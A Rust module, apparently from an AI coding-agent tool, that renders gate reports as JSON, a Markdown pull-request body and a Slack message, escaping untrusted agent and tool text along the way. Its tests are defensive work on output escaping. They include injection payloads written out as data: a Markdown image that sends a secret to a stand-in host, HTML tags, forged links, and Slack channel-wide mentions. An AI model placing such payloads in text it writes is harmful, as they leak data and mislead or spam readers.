//! One gate-report model, three renderings: the JSON contract is the [`RunReport`] itself
//! (serde); [`markdown`] is the PR body; [`block_kit`] is the Slack message, with a
//! plain-text fallback in `text` (Slack: `chat.postMessage` shows `text` in notifications and
//! where blocks cannot render).
//!
//! Owns how a report reads; it must not change the report, compute gates or send anything.
//!
//! Untrusted text is made inert in each rendering (`crate::untrusted`): the agent's summary,
//! gate details (they quote test output and file names), reasons (they quote details) and
//! tool names (MCP servers choose them) never become markup in the PR or in Slack.

use serde_json::{Value, json};

use crate::report::{Decision, GateStatus, RunReport};
use crate::untrusted::{markdown_block, markdown_code, markdown_inline, mrkdwn};

fn decision_line(d: Decision) -> &'static str {
    match d {
        Decision::AutoMerge => {
            "Auto-merge: every required gate passed and policy allows this class"
        }
        Decision::NeedsApproval => "Needs approval: react ✅ on the report to merge",
        Decision::Halt => "Halted: not published for merge",
    }
}

/// The decision line, saying first when no test ran at all (the repo declares no test
/// command and none was detected).
fn headline(r: &RunReport) -> String {
    let untested = r
        .gates
        .iter()
        .any(|g| g.name == crate::report::GateName::Tests && g.status == GateStatus::Skip);
    if untested {
        format!(
            "{} · ⚠️ untested: this repo has no test command",
            decision_line(r.decision)
        )
    } else {
        decision_line(r.decision).to_string()
    }
}

fn gate_mark(s: GateStatus) -> &'static str {
    match s {
        GateStatus::Pass => "✅",
        GateStatus::Fail => "❌",
        GateStatus::Warn => "⚠️",
        GateStatus::Skip => "➖",
    }
}

fn status_word(s: GateStatus) -> &'static str {
    match s {
        GateStatus::Pass => "pass",
        GateStatus::Fail => "fail",
        GateStatus::Warn => "warn",
        GateStatus::Skip => "skip",
    }
}

/// Untrusted text for a Markdown table cell: one line, `|` escaped, nothing live.
fn cell(s: &str) -> String {
    markdown_inline(s, true)
}

/// The PR body: summary, decision and reasons, the gate table, cost and timings, and the
/// tools and tool calls collapsed. `summary` is the agent's; `thread_url` the Slack thread.
///
/// The summary is shown verbatim in a fenced block (a fence longer than any backtick run in
/// it), not rendered: the agent's text could otherwise load a remote image when the PR is
/// viewed (`![](https://x/?d=…)`), inject HTML, or close the report's own `<details>`.
pub fn markdown(
    r: &RunReport,
    summary: Option<&str>,
    thread_url: Option<&str>,
    tool_calls: &[(String, bool)],
) -> String {
    let mut md = String::new();
    if let Some(s) = summary {
        md.push_str(&markdown_block(s));
        md.push('\n');
    }
    if let Some(u) = thread_url {
        md.push_str(&format!("Requested in [this Slack thread]({u}).\n\n"));
    }
    md.push_str(&format!(
        "**{}** · `{}` · revision {} · {} fix round(s)\n\n",
        headline(r),
        r.classification.as_str(),
        r.revision,
        r.fix_rounds
    ));
    for reason in &r.reasons {
        md.push_str(&format!("- {}\n", markdown_inline(reason, false)));
    }
    md.push_str("\n| gate | status | detail |\n|---|---|---|\n");
    for g in &r.gates {
        md.push_str(&format!(
            "| {} | {} {} | {} |\n",
            g.name,
            gate_mark(g.status),
            status_word(g.status),
            cell(&g.detail)
        ));
    }
    md.push_str(&format!(
        "\nAgent: {} steps, {} input / {} output tokens, ${:.4}. Time: {} ms total ({} ms agent, {} ms checks). Sandbox: {} (`{}`){}, network off.\n",
        r.agent.steps,
        r.agent.input_tokens,
        r.agent.output_tokens,
        r.agent.cost_usd,
        r.timings_ms.total,
        r.timings_ms.agent,
        r.timings_ms.checks,
        r.sandbox.backend,
        r.sandbox.image,
        if r.sandbox.warm {
            format!(", {}", crate::report::WARM_POOL)
        } else {
            String::new()
        }
    ));
    md.push_str(&format!(
        "\n<details><summary>Tools offered ({})</summary>\n\n{}\n</details>\n",
        r.tools.len(),
        r.tools
            .iter()
            .map(|t| markdown_code(t))
            .collect::<Vec<_>>()
            .join(", ")
    ));
    if !tool_calls.is_empty() {
        md.push_str(&format!(
            "\n<details><summary>Tool calls ({})</summary>\n\n",
            tool_calls.len()
        ));
        for (i, (name, ok)) in tool_calls.iter().enumerate() {
            md.push_str(&format!(
                "{}. {}{}\n",
                i + 1,
                markdown_code(name),
                if *ok { "" } else { " (error)" }
            ));
        }
        md.push_str("</details>\n");
    }
    md.push_str(&format!(
        "\n<sub>slipway run `{}` · task `{}` · `{}`</sub>\n",
        r.run_id, r.task_id, r.blueprint
    ));
    md
}

/// Plain text for Slack's `text` fallback and terminals.
pub fn plain_text(r: &RunReport) -> String {
    let failing: Vec<&str> = r
        .gates
        .iter()
        .filter(|g| g.status == GateStatus::Fail)
        .map(|g| g.name.as_str())
        .collect();
    let link = r
        .pr_url
        .clone()
        .unwrap_or_else(|| format!("branch {}", r.branch));
    let mut t = format!(
        "{} · {} · {} · ${:.2}",
        r.decision,
        r.classification.as_str(),
        link,
        r.agent.cost_usd
    );
    if !failing.is_empty() {
        t.push_str(&format!(" · failed: {}", failing.join(", ")));
    }
    t
}

/// Slack Block Kit for the final report: `{"text": fallback, "blocks": [...]}`.
/// Limits (Slack: section text ≤ 3000 chars, ≤ 10 fields) are respected by truncation.
/// Details, reasons and tool names are escaped for mrkdwn, so tool output cannot notify
/// (`<!channel>`, `<@U…>`) or forge a link (`<https://…|label>`).
pub fn block_kit(r: &RunReport) -> Value {
    let link = match &r.pr_url {
        Some(u) => format!("<{u}|Pull request>"),
        None => format!("Branch `{}`", mrkdwn(&r.branch)),
    };
    let gates: String = r
        .gates
        .iter()
        .map(|g| {
            format!(
                "{} *{}* {}",
                gate_mark(g.status),
                g.name,
                mrkdwn(&crate::task::truncate_chars(&g.detail, 140))
            )
        })
        .collect::<Vec<_>>()
        .join("\n");
    let reasons: String = r
        .reasons
        .iter()
        .map(|x| format!("• {}", mrkdwn(x)))
        .collect::<Vec<_>>()
        .join("\n");
    let tools = mrkdwn(&r.tools.join(", "));
    // Slack rejects a section with empty text (`invalid_blocks`).
    let or_dash = |s: String| {
        if s.trim().is_empty() {
            "—".to_string()
        } else {
            s
        }
    };
    let (reasons, gates) = (or_dash(reasons), or_dash(gates));
    json!({
        "text": plain_text(r),
        "blocks": [
            {"type": "section", "text": {"type": "mrkdwn", "text": crate::task::truncate_chars(&format!("*{}*\n{link}", headline(r)), 3000)}},
            {"type": "section", "fields": [
                {"type": "mrkdwn", "text": format!("*Class*\n`{}`", r.classification.as_str())},
                {"type": "mrkdwn", "text": format!("*Fix rounds*\n{}", r.fix_rounds)},
                {"type": "mrkdwn", "text": format!("*Cost*\n${:.4} ({} steps)", r.agent.cost_usd, r.agent.steps)},
                {"type": "mrkdwn", "text": format!("*Time*\n{:.1} s", r.timings_ms.total as f64 / 1000.0)},
            ]},
            {"type": "section", "text": {"type": "mrkdwn", "text": crate::task::truncate_chars(&reasons, 3000)}},
            {"type": "section", "text": {"type": "mrkdwn", "text": crate::task::truncate_chars(&gates, 3000)}},
            {"type": "context", "elements": [
                {"type": "mrkdwn", "text": crate::task::truncate_chars(&format!("Tools: {tools} · sandbox {} · run `{}`", r.sandbox.backend, r.run_id), 3000)},
            ]},
        ],
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::*;

    fn report() -> RunReport {
        RunReport {
            task_id: "0123456789ab".into(),
            revision: 2,
            run_id: "ba9876543210".into(),
            repo: "acme/calc".into(),
            base: "main".into(),
            branch: "slipway/01234567-fix-add".into(),
            commit: Some("c0ffee".into()),
            pr_url: Some("https://github.com/acme/calc/pull/7".into()),
            blueprint: "code_change".into(),
            decision: Decision::NeedsApproval,
            reasons: vec!["scope: touches review-required path(s): src/auth/login.py".into()],
            classification: Classification::Security,
            gates: vec![
                Gate::new(
                    GateName::Tests,
                    GateStatus::Pass,
                    "`python3 -m unittest` passed",
                ),
                Gate::new(
                    GateName::Scope,
                    GateStatus::Warn,
                    "touches review-required path(s): src/auth/login.py",
                ),
                Gate::new(
                    GateName::Secrets,
                    GateStatus::Pass,
                    "no credentials in 3 added lines",
                ),
                Gate::new(
                    GateName::Coverage,
                    GateStatus::Skip,
                    "no coverage command | none",
                ),
            ],
            tools: vec![
                "read_file".into(),
                "edit_file".into(),
                "run".into(),
                "finish".into(),
            ],
            fix_rounds: 1,
            agent: AgentTotals {
                steps: 6,
                input_tokens: 12000,
                output_tokens: 800,
                cost_usd: 0.048,
            },
            timings_ms: Timings {
                workspace: 30,
                sandbox: 90,
                agent: 4000,
                checks: 600,
                total: 4800,
            },
            sandbox: SandboxInfo {
                backend: "docker".into(),
                image: "slipway-sandbox:local".into(),
                network: false,
                warm: false,
            },
        }
    }

    #[test]
    fn a_repo_with_no_test_command_says_so_in_the_first_line() {
        let mut r = report();
        r.gates[0] = Gate::new(
            GateName::Tests,
            GateStatus::Skip,
            "no tests command in .slipway/policy.toml [checks] or detected",
        );
        let blocks = block_kit(&r).to_string();
        assert!(
            blocks.contains("untested: this repo has no test command"),
            "{blocks}"
        );
        let md = markdown(&r, Some("summary"), None, &[]);
        assert!(
            md.contains("untested: this repo has no test command"),
            "{md}"
        );
        assert!(r.to_text().lines().next().unwrap().contains("(untested)"));
    }

    #[test]
    fn the_pr_body_snapshot() {
        let calls = vec![
            ("read_file".to_string(), true),
            ("edit_file".to_string(), false),
            ("finish".to_string(), true),
        ];
        insta::assert_snapshot!(markdown(
            &report(),
            Some("Fixed the `and`/`or` slip in login."),
            Some("https://acme.slack.com/archives/C0DEV/p1700000000000100"),
            &calls
        ));
    }

    #[test]
    fn the_block_kit_snapshot() {
        insta::assert_json_snapshot!(block_kit(&report()));
    }

    #[test]
    fn the_fallback_names_failures() {
        let mut r = report();
        r.decision = Decision::Halt;
        r.gates[0].status = GateStatus::Fail;
        assert!(plain_text(&r).contains("halt") && plain_text(&r).contains("failed: tests"));
    }

    /// The agent's summary and every gate detail are untrusted: in the PR body none of them
    /// may load a remote image, inject HTML, link out, or close the report's own structure.
    #[test]
    fn an_untrusted_summary_and_gate_details_are_inert_in_the_pr_body() {
        let summary = "Done.\n![](https://x.example/?d=SECRET)\n<img src=https://x.example/a>\n```\n</details>\n<https://evil.example/>";
        let mut r = report();
        r.gates[0].status = GateStatus::Fail;
        r.gates[0].detail = "`pytest` failed (exit 1): ![](https://x.example/?d=k) <img src=x> [click](https://evil.example) </details>".into();
        r.reasons = vec![format!("tests gate failed: {}", r.gates[0].detail)];
        let md = markdown(&r, Some(summary), None, &[]);
        // The summary sits whole inside a fence no line of it can close.
        let fence: String = md.chars().take_while(|c| *c == '`').collect();
        assert!(fence.len() > 3, "{md}");
        let body = md
            .strip_prefix(&format!("{fence}text\n"))
            .and_then(|rest| rest.split_once(&format!("\n{fence}\n")))
            .map(|(inside, _)| inside);
        assert_eq!(body, Some(summary));
        assert!(!summary.lines().any(|l| l.trim_start().starts_with(&fence)));
        // Outside the fence: no image, no HTML, no link from a gate's detail.
        let after = md
            .split_once(&format!("\n{fence}\n"))
            .map(|(_, a)| a)
            .unwrap();
        // What GitHub renders: a backslash-escaped character is text.
        let live = regex::Regex::new(r"\\.").unwrap().replace_all(after, "");
        for bad in ["![", "](", "<img", "</details> |", "<https", "https://x"] {
            assert!(!live.contains(bad), "{bad:?} in\n{after}");
        }
        assert!(after.contains("`pytest` failed"), "{after}");
    }

    /// Gate details, reasons and tool names are text in Slack, never markup: no
    /// `<!channel>`, no mention, no forged link.
    #[test]
    fn gate_details_cannot_ping_or_link_in_slack() {
        let mut r = report();
        r.gates[0].detail = "<!channel> <@U0BOSS> <https://evil.example|click> & co".into();
        r.reasons = vec!["<!here> look".into()];
        r.tools.push("<!everyone>".into());
        let kit = block_kit(&r).to_string();
        for bad in [
            "<!channel>",
            "<@U0BOSS>",
            "<https://evil",
            "<!here>",
            "<!everyone>",
        ] {
            assert!(!kit.contains(bad), "{bad:?} in {kit}");
        }
        assert!(kit.contains("&lt;!channel&gt; &lt;@U0BOSS&gt;") && kit.contains("&amp; co"));
    }
}
